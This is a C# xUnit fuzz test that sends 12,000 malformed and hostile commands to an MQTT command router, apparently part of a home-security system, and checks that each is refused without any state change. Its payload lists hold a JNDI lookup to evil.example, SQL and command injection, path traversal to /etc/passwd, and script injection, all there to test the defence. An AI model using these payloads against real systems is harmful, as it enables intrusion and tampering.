using System.Diagnostics;
using System.Text;
using System.Text.Json;
using MQTTnet;
using MQTTnet.Protocol;
using Xunit.Abstractions;

namespace Watchpost.Tests.Mqtt.Commands;

/// <summary>
/// Issue 6 item 7: the router's entry point fed at least 10,000 malformed or hostile commands (deterministic seed):
/// no crash, no state change (arming, audit, events, relays, reloads), exactly one error reply each.
/// </summary>
public sealed class CommandFuzzTests(ITestOutputHelper output)
{
    private const string Root = "watchpost/fuzz";
    private const int Count = 12_000;

    private static readonly string[] Verbs = ["arm", "disarm", "ack", "resolve", "relay", "snapshot", "reload", "ping"];

    private static readonly string[] Hostile =
    [
        "rule:../../x", "../../etc/passwd", "'; DROP TABLE events; --", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>",
        "%00", "\u0000", "\u202e", "\ud800", "rule:lawn-intrusion\u0000", "camera:gate/../back", "zone:*", "rule:lawn-intrusion ",
        " all", "ALL", "everything", "rule:", ":", "rule:$(reboot)", "{{7*7}}", "\r\nSet-Cookie: x", "\\\\server\\share", "0x41414141",
        "rule:" + new string('a', 65), "camera:" + new string('b', 500), "null", "undefined", "NaN",
    ];

    [Fact]
    public async Task Hostile_payloads_change_nothing_and_each_gets_one_error_reply()
    {
        var connection = new RecordingConnection(Root) { CountOnly = true };
        await using var box = new CommandHarness(connection);
        var before = box.State();
        var random = new Random(6006);
        var clock = Stopwatch.StartNew();
        var kinds = new Dictionary<string, int>();
        for (var i = 0; i < Count; i++)
        {
            var (verb, payload, kind) = Generate(random, i);
            kinds[kind] = kinds.GetValueOrDefault(kind) + 1;
            var published = connection.Count;
            await box.Router.OnMessageAsync(new MqttApplicationMessageBuilder()
                .WithTopic($"{Root}/cmd/{verb}")
                .WithPayload(payload)
                .WithQualityOfServiceLevel(MqttQualityOfServiceLevel.AtLeastOnce)
                .Build(), CancellationToken.None);

            if (connection.Count != published + 1)
            {
                Assert.Fail($"#{i} {kind} {verb}: {connection.Count - published} replies to {Show(payload)}");
            }

            var reply = connection.Last!;
            if (reply.Topic != $"{Root}/cmd/{verb}/result")
            {
                Assert.Fail($"#{i}: the reply went to {reply.Topic}");
            }

            using var json = JsonDocument.Parse(reply.Payload);
            if (json.RootElement.GetProperty("ok").ValueKind != JsonValueKind.False || string.IsNullOrWhiteSpace(json.RootElement.GetProperty("error").GetString()))
            {
                Assert.Fail($"#{i} {kind} {verb}: {Show(payload)} was not refused: {json.RootElement}");
            }

            if (reply.Payload.Length >= 4096)
            {
                Assert.Fail($"#{i}: a {reply.Payload.Length}-byte reply");
            }
            if (i % 500 == 0)
            {
                Assert.Equal(before, box.State());
            }
        }

        Assert.Equal(before, box.State());
        Assert.Empty(box.Arming.Disarmed);
        output.WriteLine($"{Count} payloads in {clock.Elapsed.TotalSeconds:0.0} s: {string.Join(", ", kinds.OrderBy(k => k.Key).Select(k => $"{k.Key} {k.Value}"))}");

        // The fuzzed router still works.
        await box.Router.OnMessageAsync(new MqttApplicationMessageBuilder().WithTopic($"{Root}/cmd/snapshot").WithPayload("""{"camera": "gate"}""").Build(), CancellationToken.None);
        using var ok = JsonDocument.Parse(connection.Last!.Payload);
        Assert.True(ok.RootElement.GetProperty("ok").GetBoolean());
    }

    private static string Show(byte[] payload) => payload.Length > 200 ? Encoding.UTF8.GetString(payload, 0, 200) + "..." : Encoding.UTF8.GetString(payload);

    /// <summary>One command that must be refused: a verb and payload bytes, and what kind of attack it is.</summary>
    private static (string Verb, byte[] Payload, string Kind) Generate(Random random, int i)
    {
        var verb = Verbs[random.Next(Verbs.Length)];
        switch (random.Next(12))
        {
            case 0:
                var junk = new byte[random.Next(0, 300)];
                random.NextBytes(junk);
                return (verb, junk, "binary");
            case 1:
                var valid = Encoding.UTF8.GetBytes(Payload(random, verb, poison: true));
                return (verb, valid[..random.Next(0, Math.Max(1, valid.Length - 1))], "truncated");
            case 2:
                string[] notObjects = ["[]", "[{\"target\":\"all\"}]", "42", "-1e400", "\"arm\"", "null", "true", "false", "\"\"", " ", "", "{}{}", "{\"target\":\"all\"} x", "NaN", "Infinity", "'{}'", "{'target':'all'}", "/* */ {}", "\u00ef\u00bb\u00bf{\"a\":"];
                return (verb, Encoding.UTF8.GetBytes(notObjects[random.Next(notObjects.Length)]), "not an object");
            case 3:
                var depth = random.Next(17, 2000);
                var nested = random.Next(2) == 0
                    ? "{\"target\":" + string.Concat(Enumerable.Repeat("[", depth)) + string.Concat(Enumerable.Repeat("]", depth)) + "}"
                    : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
                return (verb, Encoding.UTF8.GetBytes(nested), "deep nesting");
            case 4 when i % 10 == 0:
                return (verb, Encoding.UTF8.GetBytes($$"""{"target": "{{new string('x', 70_000)}}"}"""), "over 64 KB");
            case 5:
                return (Unknown(random), Encoding.UTF8.GetBytes(Payload(random, Verbs[random.Next(Verbs.Length)], poison: random.Next(2) == 0)), "unknown verb");
            case 6:
                var rid = new[] { "5", "null", "[]", "{}", "true", $"\"{new string('r', 200)}\"", "\"a\\u0000b\"" }[random.Next(7)];
                return (verb, Encoding.UTF8.GetBytes(Payload(random, verb, poison: false).Replace("{", $"{{\"request_id\": {rid}, ", StringComparison.Ordinal)), "bad request_id");
            case 7:
                var doubled = Payload(random, verb, poison: false);
                return (verb, Encoding.UTF8.GetBytes(doubled.Length > 2 ? doubled.Replace("{", "{\"request_id\": \"a\", \"request_id\": \"b\", ", StringComparison.Ordinal) : "{\"x\":1,\"x\":2}"), "duplicate keys");
            default:
                return (verb, Encoding.UTF8.GetBytes(Payload(random, verb, poison: true)), "poisoned field");
        }
    }

    private static string Unknown(Random random)
    {
        string[] verbs = ["ARM", "Arm", "arm ", " arm", "launch", "rm", "exec", "$(id)", "..", "cmd", "result", "arm\u0000", "\u00e4rm", "arm;reboot", new string('v', 300), "<script>", "%61rm", "reload!", "snap shot"];
        return verbs[random.Next(verbs.Length)];
    }

    /// <summary>A JSON object for <paramref name="verb"/>: plausible fields, and with <paramref name="poison"/> at least one that must make it refused.</summary>
    private static string Payload(Random random, string verb, bool poison)
    {
        var fields = new Dictionary<string, string>();
        switch (verb)
        {
            case "arm" or "disarm":
                fields["target"] = Str(Pick(random, ["all", "rule:lawn-intrusion", "zone:lawn", "camera:gate"]));
                if (random.Next(2) == 0)
                {
                    fields["operator"] = Str(Pick(random, Hostile.Where(h => !h.Any(char.IsControl) && h.Length < 90).ToArray()));
                }

                break;
            case "ack" or "resolve":
                fields["event_id"] = Str(CommandHarness.KnownEvent);
                fields["operator"] = Str("op");
                fields["note"] = Str(Pick(random, Hostile.Where(h => !h.Contains('\0', StringComparison.Ordinal)).ToArray()));
                break;
            case "relay":
                fields["name"] = Str("siren");
                fields["state"] = Str(Pick(random, ["on", "off", "pulse"]));
                fields["seconds"] = "3";
                break;
            case "snapshot":
                fields["camera"] = Str("gate");
                break;
        }

        if (poison || fields.Count == 0)
        {
            Poison(random, verb, fields);
        }

        return "{" + string.Join(", ", fields.Select(f => $"{Str(f.Key)}: {f.Value}")) + "}";
    }

    /// <summary>Makes one field wrong in a way each handler must refuse.</summary>
    private static void Poison(Random random, string verb, Dictionary<string, string> fields)
    {
        var idField = verb switch
        {
            "arm" or "disarm" => "target",
            "ack" or "resolve" => "event_id",
            "relay" => "name",
            "snapshot" => "camera",
            _ => null,
        };
        string[] wrongTypes = ["1", "-0.5", "true", "null", "[]", "[\"gate\"]", "{}", "{\"$ne\": null}", "1e308"];
        switch (idField is null ? random.Next(3) : random.Next(6))
        {
            case 0:
                fields[Pick(random, ["force", "Target", "__proto__", "constructor", "$where", "target ", "operator\u0000", "seconds2"])] = "1";
                break;
            case 1:
                fields[idField ?? "operator"] = wrongTypes[random.Next(wrongTypes.Length)];
                break;
            case 2:
                // A name with control characters, or far too long.
                fields[verb is "ack" or "resolve" ? "operator" : verb is "relay" ? "state" : idField ?? "operator"] =
                    random.Next(2) == 0 ? Str("eve\u0000\u001b[31m") : Str(new string('n', random.Next(3000, 20000)));
                break;
            case 3:
                fields[idField!] = Str(verb switch
                {
                    "arm" or "disarm" => Pick(random, [.. Hostile, "rule:nope", "zone:nope", "camera:nope", "rule:yard", "line:lawn", "zone:lawn-intrusion"]),
                    "ack" or "resolve" => Pick(random, [.. Hostile, "0192a0b0c0d0e0f0ffffffffffffffff", Guid.NewGuid().ToString("N")]),
                    "relay" => Pick(random, [.. Hostile, "horn", "Siren", "gate"]),
                    _ => Pick(random, [.. Hostile, "front", "Gate", "old", "siren"]),
                });
                break;
            case 4:
                fields.Remove(idField!);
                break;
            default:
                // The verb's other fields wrong.
                switch (verb)
                {
                    case "relay":
                        fields["state"] = Str("pulse");
                        fields["seconds"] = Pick(random, ["0", "-3", "1e9", "\"5\"", "null", "3601", "[3]"]);
                        break;
                    case "disarm":
                        fields["until"] = Pick(random, ["\"yesterday\"", "\"2001-01-01T00:00:00Z\"", "\"2099-13-45T99:00:00Z\"", "\"2099-01-01T00:00:00\"", "1234567890", "\"${jndi:x}\""]);
                        break;
                    case "ack" or "resolve":
                        fields["operator"] = Pick(random, ["\"\"", "\"   \"", "5", "null"]);
                        break;
                    case "arm":
                        fields["reason"] = Pick(random, ["7", "[]", Str(new string('r', 501)), Str("bell\u0007")]);
                        break;
                    default:
                        fields["camera"] = Pick(random, ["\"\"", "0", "{\"id\": \"gate\"}"]);
                        break;
                }

                break;
        }
    }

    private static string Pick(Random random, string[] values) => values[random.Next(values.Length)];

    private static string Str(string value) => JsonSerializer.Serialize(value);
}
